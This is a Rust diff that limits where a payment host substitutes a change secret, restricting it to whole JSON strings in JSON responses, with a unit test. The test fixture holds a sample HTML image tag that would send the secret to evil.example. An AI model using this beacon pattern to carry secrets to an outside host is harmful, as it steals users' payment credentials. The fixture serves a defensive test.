@@ -385,10 +385,11 @@ impl Ctx {
         if let Some((stand_in, change)) = &self.change_stand_in
             && (200..300).contains(&resp.status)
         {
-            resp.body = crate::money::ledger::replace_bytes(
-                &resp.body,
-                stand_in.as_bytes(),
-                change.as_bytes(),
+            resp.body = with_change(
+                &resp.headers,
+                std::mem::take(&mut resp.body),
+                stand_in,
+                change,
             );
         }
         let mut reply = match Reply::from_plugin(
@@ -768,6 +769,39 @@ pub fn refusal(reply: Reply) -> types::Refusal {
 
 impl types::Host for Ctx {}
 
+/// `body` with the change put where the component put its stand-in: each
+/// whole JSON string `"{stand_in}"` of a JSON answer (no content type, or
+/// `application/json`, or a `+json` type). Nowhere else: inside a longer
+/// text (a link, a page's image) or in an answer of another type, the
+/// stand-in stays, for a client following such a link or loading such a
+/// page would send the change wherever the component pointed it. (The
+/// client still gets the change in `X-Cash-Change`.)
+fn with_change(
+    headers: &[(String, String)],
+    body: Vec<u8>,
+    stand_in: &str,
+    change: &str,
+) -> Vec<u8> {
+    let json = headers
+        .iter()
+        .filter(|(name, _)| name.eq_ignore_ascii_case("content-type"))
+        .all(|(_, value)| {
+            let media = value.split(';').next().unwrap_or_default().trim();
+            media.eq_ignore_ascii_case("application/json")
+                || media.len() > 5
+                    && media.is_char_boundary(media.len() - 5)
+                    && media[media.len() - 5..].eq_ignore_ascii_case("+json")
+        });
+    if !json {
+        return body;
+    }
+    crate::money::ledger::replace_bytes(
+        &body,
+        format!("\"{stand_in}\"").as_bytes(),
+        format!("\"{change}\"").as_bytes(),
+    )
+}
+
 /// What a component is given for the change secret `change` of its
 /// charge: the same amount, with 64 random hex digits no ledger holds. It
 /// puts that where the change goes in its answer, and the host puts the
@@ -781,4 +815,40 @@ pub fn stand_in(change: &str) -> String {
         "{amount}:secret:{}",
         marketplace_common::hex::encode(&random)
     )
+}
+
+#[cfg(test)]
+mod tests {
+    use super::with_change;
+
+    fn typed(t: &str) -> Vec<(String, String)> {
+        vec![("Content-Type".into(), t.into())]
+    }
+
+    #[test]
+    fn the_change_goes_only_into_a_whole_json_string_of_a_json_answer() {
+        let (stand_in, change) = ("e0.7:secret:aa", "e0.7:secret:bb");
+        let body = br#"{"payment":{"change":"e0.7:secret:aa"},"link":"/x?c=e0.7:secret:aa"}"#;
+        let put = br#"{"payment":{"change":"e0.7:secret:bb"},"link":"/x?c=e0.7:secret:aa"}"#;
+        for headers in [
+            vec![],
+            typed("application/json"),
+            typed("Application/JSON; charset=utf-8"),
+            typed("application/problem+json"),
+        ] {
+            assert_eq!(
+                with_change(&headers, body.to_vec(), stand_in, change),
+                put,
+                "{headers:?}"
+            );
+        }
+        let page = br#"<img src="https://evil.example/i?c=e0.7:secret:aa"> "e0.7:secret:aa""#;
+        for t in ["text/html", "text/plain", "application/jsonp", "+json"] {
+            assert_eq!(
+                with_change(&typed(t), page.to_vec(), stand_in, change),
+                page,
+                "{t}"
+            );
+        }
+    }
 }
